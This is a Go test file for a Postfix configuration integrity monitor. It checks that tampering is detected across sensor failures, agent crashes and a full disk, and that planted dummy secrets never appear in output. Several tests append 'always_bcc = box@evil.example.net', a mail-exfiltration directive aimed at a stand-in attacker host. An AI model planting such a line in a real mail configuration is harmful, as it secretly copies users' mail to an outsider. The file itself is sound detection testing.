@@ -1,0 +1,275 @@
+package agent_test
+
+import (
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"waxseal"
+	"waxseal/internal/sensor/kaudit"
+)
+
+func TestChangeWhileAgentWasDown(t *testing.T) {
+	h := postfixTree(t, nil)
+	h.must("seal")
+	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
+	w := h.watch()
+	f := w.find("the copy", isNew("mail-copy"))
+	if f.Unobserved == nil || f.Unobserved.From.IsZero() || !f.Unobserved.Until.After(f.Unobserved.From) {
+		t.Errorf("unobserved: %+v", f.Unobserved)
+	}
+	if f.Actor.Process.Grade != waxseal.Unknown {
+		t.Errorf("an actor was guessed: %+v", f.Actor)
+	}
+	if f.Severity != waxseal.Critical || f.Checkpoint == "" {
+		t.Errorf("severity %s, checkpoint %q", f.Severity, f.Checkpoint)
+	}
+	w.stop()
+	h.watch().stop() // the same difference is not told twice
+	out := h.must("findings", "list", "--format", "json")
+	if n := strings.Count(out, `"rule": "mail-copy"`); n != 1 {
+		t.Errorf("%d findings for one change\n%s", n, out)
+	}
+	h.must("ledger", "verify")
+}
+
+func TestContentThatWasThereForAMoment(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	h.must("seal")
+	w := h.watch()
+	sealed, err := os.ReadFile(h.path("/etc/postfix/main.cf"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	h.write("/etc/postfix/main.cf", string(sealed)+"always_bcc = box@evil.example.net\n")
+	time.Sleep(20 * time.Millisecond) // the kernel merges events that wait; that case is told as a gap
+	h.write("/etc/postfix/main.cf", string(sealed))
+	f := w.find("the copy that was there for a moment", isNew("mail-copy"))
+	if f.Severity != waxseal.Critical || f.Unobserved != nil {
+		t.Errorf("severity %s, unobserved %v", f.Severity, f.Unobserved)
+	}
+}
+
+func TestWithoutSensors(t *testing.T) {
+	h := postfixTree(t, nil)
+	h.config("watch:\n  fanotify: false\n  audit: false\n  poll: 1s\n")
+	h.must("seal")
+	w := h.watch()
+	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
+	f := w.find("the copy, found by reading again", isNew("mail-copy"))
+	if f.Unobserved == nil || f.Actor.Process.Grade != waxseal.Unknown {
+		t.Errorf("unobserved %v, actor %+v", f.Unobserved, f.Actor)
+	}
+	for _, sensor := range []string{"without fanotify", "without kaudit"} {
+		if !strings.Contains(w.errs.String(), sensor) {
+			t.Errorf("nothing said %q:\n%s", sensor, w.errs)
+		}
+	}
+}
+
+func TestWithoutAudit(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	h.config("watch:\n  audit: false\n")
+	h.must("seal")
+	w := h.watch()
+	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
+	f := w.find("the copy", isNew("mail-copy"))
+	if f.Actor == nil || f.Actor.Process.PID != os.Getpid() || f.Actor.Process.Grade != waxseal.Inferred {
+		t.Errorf("without audit an actor is inferred at best: %+v", f.Actor)
+	}
+}
+
+func TestWithoutFanotify(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	h.config("watch:\n  fanotify: false\n")
+	h.must("seal")
+	w := h.watch()
+	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
+	f := w.find("the copy", isNew("mail-copy"))
+	if f.Actor == nil || f.Actor.Process.PID != os.Getpid() || f.Actor.Process.Grade != waxseal.Proven {
+		t.Errorf("audit alone proves the process: %+v", f.Actor)
+	}
+}
+
+// TestKilled kills the agent at odd moments: the ledger verifies afterwards, what
+// was told as recorded is there, and what the agent left in the kernel can be
+// taken away.
+func TestKilled(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	h.must("seal")
+	recorded := map[waxseal.FindingID]bool{}
+	for round := range 6 {
+		w := h.watch()
+		stop := make(chan struct{})
+		go func() {
+			for i := 0; ; i++ {
+				select {
+				case <-stop:
+					return
+				case <-time.After(3 * time.Millisecond):
+					_ = os.WriteFile(h.path("/etc/postfix/main.cf"), fmt.Appendf(nil, "always_bcc = box%d-%d@evil.example.net\n", round, i), 0o644)
+				}
+			}
+		}()
+		time.Sleep(time.Duration(60+70*round) * time.Millisecond)
+		w.end(syscall.SIGKILL)
+		close(stop)
+		for len(w.told) > 0 {
+			if f := <-w.told; f.ID != "" && !f.Unrecorded {
+				recorded[f.ID] = true
+			}
+		}
+		h.must("ledger", "verify")
+	}
+	if len(recorded) == 0 {
+		t.Error("nothing was recorded in six rounds")
+	}
+	out := h.must("findings", "list", "--format", "json")
+	for id := range recorded {
+		if !strings.Contains(out, fmt.Sprintf("%q", id)) {
+			t.Errorf("finding %s was told and is not in the ledger", id)
+		}
+	}
+	h.must("doctor", "--clean")
+	if left := kaudit.Leftovers("waxseal"); len(left) > 0 {
+		t.Errorf("audit rules are left: %q", left)
+	}
+}
+
+// TestFullDisk: without room for the ledger, judging goes on, findings say
+// unrecorded, and they are recorded when there is room again.
+func TestFullDisk(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	small := filepath.Join(filepath.Dir(h.root), "small")
+	if err := os.Mkdir(small, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := syscall.Mount("tmpfs", small, "tmpfs", 0, "size=6m,mode=700"); err != nil {
+		t.Skipf("can't mount a small file system: %v", err)
+	}
+	t.Cleanup(func() { _ = syscall.Unmount(small, syscall.MNT_DETACH) })
+	h.state = filepath.Join(small, "state")
+	h.must("seal")
+	w := h.watch()
+	ballast := filepath.Join(small, "ballast")
+	fill(t, ballast)
+	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
+	f := w.find("the copy, unrecorded", isNew("mail-copy"))
+	if !f.Unrecorded || f.Severity != waxseal.Critical {
+		t.Errorf("unrecorded %v, severity %s", f.Unrecorded, f.Severity)
+	}
+	if err := os.Remove(ballast); err != nil {
+		t.Fatal(err)
+	}
+	wait(t, "the finding to be recorded", func() bool {
+		out, code := h.run("findings", "list", "--format", "json")
+		return code == 0 && strings.Contains(out, `"unrecorded": true`)
+	})
+	w.stop()
+	h.must("ledger", "verify")
+}
+
+// fill takes all room of a file system.
+func fill(t *testing.T, name string) {
+	t.Helper()
+	f, err := os.Create(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for chunk := 1 << 20; chunk >= 512; {
+		if _, err := f.Write(make([]byte, chunk)); err != nil {
+			chunk /= 2
+		}
+	}
+}
+
+func wait(t testing.TB, what string, done func() bool) {
+	t.Helper()
+	for range 200 {
+		if done() {
+			return
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	t.Fatalf("waited in vain for %s", what)
+}
+
+// TestSecrets plants secrets of each kind, makes Waxseal look at all of them, and
+// searches everything it wrote and printed.
+func TestSecrets(t *testing.T) {
+	const sasl, sql, inline, argument = "Sasl-Pa55word", "Sql-Pa55word", "Inl1ne-Pa55word", "Argument-Pa55"
+	const dkim = "MIIEpAIBAAKCAQEAdkimkeydkimkey"
+	key := "-----BEGIN RSA PRIVATE KEY-----\n" + dkim + "\n-----END RSA PRIVATE KEY-----\n"
+	main := "myhostname = mail.example.test\nalias_maps = hash:/etc/aliases\n" +
+		"relayhost = [smtp.provider.example.net]:587\nsmtp_sasl_password_maps = hash:/etc/postfix/sasl_passwd\n" +
+		"lmtp_sasl_password_maps = inline:{ {lmtp.example.test = user:" + inline + "} }\n" +
+		"smtpd_tls_key_file = /etc/postfix/key.pem\nvirtual_alias_maps = mysql:/etc/postfix/mysql.cf\n" +
+		"ldapx_server_host = ldap.example.test\nldapx_bind_pw = " + sql + "\ncanonical_maps = ldap:ldapx\n"
+	h := postfixTree(t, map[string]string{
+		"/etc/postfix/main.cf":           main,
+		"/etc/postfix/sasl_passwd":       "[smtp.provider.example.net]:587 user:" + sasl + "\n",
+		"/etc/postfix/sasl_passwd.bak":   "[smtp.provider.example.net]:587 user:" + sasl + "\n",
+		"/etc/postfix/mysql.cf":          "hosts = db.example.test\nuser = postfix\npassword = " + sql + "\nquery = SELECT 1\n",
+		"/etc/postfix/key.pem":           key,
+		"/etc/postfix/dkim/mail.private": key,
+	})
+	var printed strings.Builder
+	keep := func(out string, _ int) { printed.WriteString(out) }
+	keep(h.run("scan", "--format", "json"))
+	keep(h.run("scan"))
+	keep(h.run("seal"))
+	w := h.watch()
+	h.append("/etc/postfix/mysql.cf", "# edited\n")
+	h.append("/etc/postfix/sasl_passwd", "[other.example.net] other:"+sasl+"\n")
+	h.append("/etc/postfix/main.cf", "lmtp_sasl_password_maps = inline:{ {lmtp.example.test = user:"+inline+"2} }\nalways_bcc = box@evil.example.net\n")
+	f := w.find("the copy", isNew("mail-copy"))
+	fmt.Fprintf(&printed, "%+v %+v", f, f.Change)
+	w.stop()
+	keep(h.run("findings", "show", string(f.ID)))
+	keep(h.run("findings", "list", "--format", "json"))
+	keep(h.run("check"))
+	keep(h.run("check", "--format", "json"))
+	empty := t.TempDir()
+	keep(host{t: t, root: h.root, state: h.state}.run("diff", empty, h.root, "--format", "json"))
+	keep(host{t: t, root: h.root, state: h.state}.run("diff", empty, h.root))
+	printed.WriteString(w.errs.String())
+	for _, secret := range []string{sasl, sql, inline, argument, dkim} {
+		if i := strings.Index(printed.String(), secret); i >= 0 {
+			t.Errorf("%s was printed: …%s…", secret, printed.String()[max(0, i-200):i+30])
+		}
+		searchFiles(t, h.state, secret)
+	}
+	if !strings.Contains(printed.String(), "«secret ") {
+		t.Error("no masked secret was printed: the test looked at nothing")
+	}
+}
+
+// searchFiles looks for a secret in the files of a state directory, as they are
+// and, for what is compressed, in every content that can be read back.
+func searchFiles(t *testing.T, dir, secret string) {
+	t.Helper()
+	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() {
+			return err
+		}
+		content, err := os.ReadFile(p)
+		if strings.Contains(string(content), secret) {
+			t.Errorf("%s holds the secret %s", p, secret)
+		}
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
